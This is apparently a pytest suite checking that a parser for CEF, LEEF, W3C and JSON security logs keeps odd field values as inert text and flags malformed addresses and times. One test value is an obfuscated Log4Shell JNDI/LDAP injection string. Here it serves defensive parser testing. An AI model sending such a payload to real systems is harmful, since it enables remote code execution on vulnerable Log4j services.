"""Whatever turns up in a value stays there, and an odd field costs no other field: in every format."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest

from tests.events.cef_lines import FETCHED, SOURCE, START, cef, rows
from tests.long_form import TIMES_AS_LARGE

ODD_TEXTS = {
    "control characters": "a\x01\x0b\x0c\x1c\x1d\x1e\x1f\x7fb",
    "NUL": "a\x00b",
    "separators of Unicode": "a\x85b\u2028c\u2029d\u200be",
    "lone CR": "a\rb",
    "apostrophe": "Al 'Ayn",
    "entity": "customers&#39; presences",
    "bars": "Phone 1 | app | y",
    "Log4Shell": "${${a:b:-j}ndi${env:X:-:}ldap://192.0.2.9/x}",
    "beyond the first plane": "\U0001f600 ş ß",
    "unclosed quote": 'a "b',
    "comma and brackets": "[a], {b}",
    "look-alike keys": "a src=192.0.2.9 act=REQ_PASSED cs1Label=x",
}


def keyed(fields: dict[str, str], names: dict[str, str], blank: str) -> str:
    escaped = {names[key]: text.replace("\\", "\\\\").replace("=", "\\=") for key, text in fields.items()}
    return blank.join(f"{key}={text}" for key, text in escaped.items())


def as_cef(fields: dict[str, str]) -> bytes:
    names = {"time": "start", "agent": "requestClientApplication", "country": "ccode", "ip": "src", "server": "sip"}
    return cef(keyed(fields, {**names, "port": "spt"}, " ")).encode(errors="surrogateescape")


def as_leef(fields: dict[str, str]) -> bytes:
    names = {"time": "start", "agent": "requestClientApplication", "country": "calCountryOrRegion", "ip": "src"}
    attributes = keyed(fields, {**names, "server": "dst", "port": "dstPort"}, "\t")
    return f"LEEF:1.0|Incapsula|SIEMintegration|1|Normal|{attributes}".encode(errors="surrogateescape")


def as_w3c(fields: dict[str, str]) -> bytes:
    names = {"time": "cs-start", "agent": "cs(User-Agent)", "country": "cs-countrycode", "ip": "c-ip"}
    names |= {"server": "s-ip", "port": "s-port"}
    row = " ".join('"{}"'.format(text.replace('"', '""')) for text in fields.values())
    return f"#Fields: {' '.join(names[key] for key in fields)}\n{row}".encode(errors="surrogateescape")


def as_json(fields: dict[str, str]) -> bytes:
    event = {
        "timestamp": fields.get("time"),
        "user_agent": {"original": fields.get("agent")},
        "client": {"ip": fields.get("ip"), "geo": {"country_iso_code": fields.get("country")}},
    }
    return json.dumps(event, ensure_ascii=False).encode(errors="surrogateescape")


WRITERS: dict[str, Callable[[dict[str, str]], bytes]] = {
    "CEF": as_cef,
    "LEEF": as_leef,
    "W3C": as_w3c,
    "JSON": as_json,
}


@pytest.fixture(params=WRITERS)
def row(request: pytest.FixtureRequest) -> Callable[..., dict[str, Any]]:
    """Parse one event with these fields, written in one of the formats."""

    def read(**fields: str) -> dict[str, Any]:
        (only,) = rows(WRITERS[request.param]({"time": str(START), "ip": "192.0.2.1", **fields}))
        assert only["src_format"] == request.param
        return only

    return read


@pytest.mark.parametrize("text", ODD_TEXTS.values(), ids=ODD_TEXTS.keys())
def test_odd_text_is_text(row: Callable[..., dict[str, Any]], text: str) -> None:
    event = row(agent=text, country="IL")
    assert (event["user_agent"], event["client_ip"], event["client_country_code"]) == (text, "192.0.2.1", "IL")
    assert (event["extra"], event["parse_warnings"]) == ({}, [])


def test_bytes_that_are_no_utf8_are_replaced_and_noted(row: Callable[..., dict[str, Any]]) -> None:
    event = row(agent="Stra\udcdfe \udcff!")
    assert (event["user_agent"], event["client_ip"]) == ("Stra\ufffde \ufffd!", "192.0.2.1")
    assert event["parse_warnings"] == ["replaced_bytes"]


LARGE = 2_000_004 * TIMES_AS_LARGE


def test_line_of_megabytes(row: Callable[..., dict[str, Any]]) -> None:
    begin = time.monotonic()
    event = row(agent="x y=z " * (LARGE // 6), country="IL")
    assert (len(event["user_agent"]), event["client_country_code"]) == (LARGE - 1, "IL")
    assert time.monotonic() - begin < 60


def test_country_in_brackets(row: Callable[..., dict[str, Any]]) -> None:
    assert row(country="[US]")["client_country_code"] == "US"


@pytest.mark.parametrize("address", ["192.0.2.x1", "92.140.985.97", "Distributed", "x"])
def test_what_is_no_address_is_kept_and_noted(row: Callable[..., dict[str, Any]], address: str) -> None:
    event = row(ip=address)
    assert event["client_ip"] == address
    assert [code.split(":")[0] for code in event["parse_warnings"]] == ["bad_ip"]


@pytest.mark.parametrize(
    "address",
    [
        *("XXX", "xxx.xxx.31.120", "192.0.2.xxx", "***", "192.0.*.*", "xxxx", "2001:db8::xxxx", "2001:db8:****:1::"),
        *("d41d8cd98f00b204e9800998ecf8427e", "DA39A3EE5E6B4B0D3255BFEF95601890AFD80709", "a" * 64, "b1" * 64),
        "1B2M2Y8AsgTpgAmY7PhCfg==",
    ],
)
def test_what_was_masked_at_the_source_is_kept_and_nothing_is_wrong_with_it(
    row: Callable[..., dict[str, Any]], address: str
) -> None:
    event = row(ip=address)
    assert (event["client_ip"], event["parse_warnings"]) == (address, [])


@pytest.mark.parametrize("port", ["XXX", "***", "d41d8cd98f00b204e9800998ecf8427e"])
@pytest.mark.parametrize("write", [as_cef, as_leef, as_w3c], ids=["CEF", "LEEF", "W3C"])
def test_masked_number_is_kept_beside_the_column(write: Callable[[dict[str, str]], bytes], port: str) -> None:
    (event,) = rows(write({"time": str(START), "port": port}))
    assert (event["server_port"], event["parse_warnings"]) == (None, [])
    assert list(event["extra"].values()) == [port]


def test_what_is_odd_about_the_log_s_header_is_noted_in_each_event() -> None:
    source = replace(SOURCE, warnings=("epoch_seconds:startTime",))
    codes = [found["parse_warnings"] for found in rows(cef("start=1700000000001"), cef("in=x"), source=source)]
    assert codes == [["epoch_seconds:startTime"], ["epoch_seconds:startTime", "bad_int:in", "time_from_file"]]


@pytest.mark.parametrize(
    ("text", "expected", "codes"),
    [
        ("1700000001", 1_700_000_001_000, ["epoch_seconds"]),
        ("170000000", START, ["bad_time", "time_from_file"]),
        ("17000000000000000", START, ["bad_time", "time_from_file"]),
        ("2023-11-14T22:13:21.5+01:00", 1_699_996_401_500, []),
        ("yesterday", START, ["bad_time", "time_from_file"]),
        (str(FETCHED + 10 * 86_400_000), START, ["bad_time", "time_from_file"]),
        ("", START, ["time_from_file"]),
    ],
)
def test_times(row: Callable[..., dict[str, Any]], text: str, expected: int, codes: list[str]) -> None:
    event = row(time=text)
    assert round(event["event_time"].timestamp() * 1000) == expected
    assert [code.split(":")[0] for code in event["parse_warnings"]] == codes
    assert list(event["extra"].values()) == ([text] if "bad_time" in codes else [])


@pytest.mark.parametrize("write", [as_cef, as_leef, as_w3c], ids=["CEF", "LEEF", "W3C"])
def test_no_origin_was_asked(write: Callable[[dict[str, str]], bytes]) -> None:
    asked, not_asked = (
        rows(write({"time": str(START), "server": server, "port": port}))[0]
        for server, port in (("192.0.2.80", "443"), ("0.0.0.0", "0"))
    )
    assert (asked["server_ip"], asked["server_port"]) == ("192.0.2.80", 443)
    assert (not_asked["server_ip"], not_asked["server_port"]) == (None, None)
    assert (not_asked["extra"], not_asked["parse_warnings"]) == ({}, [])
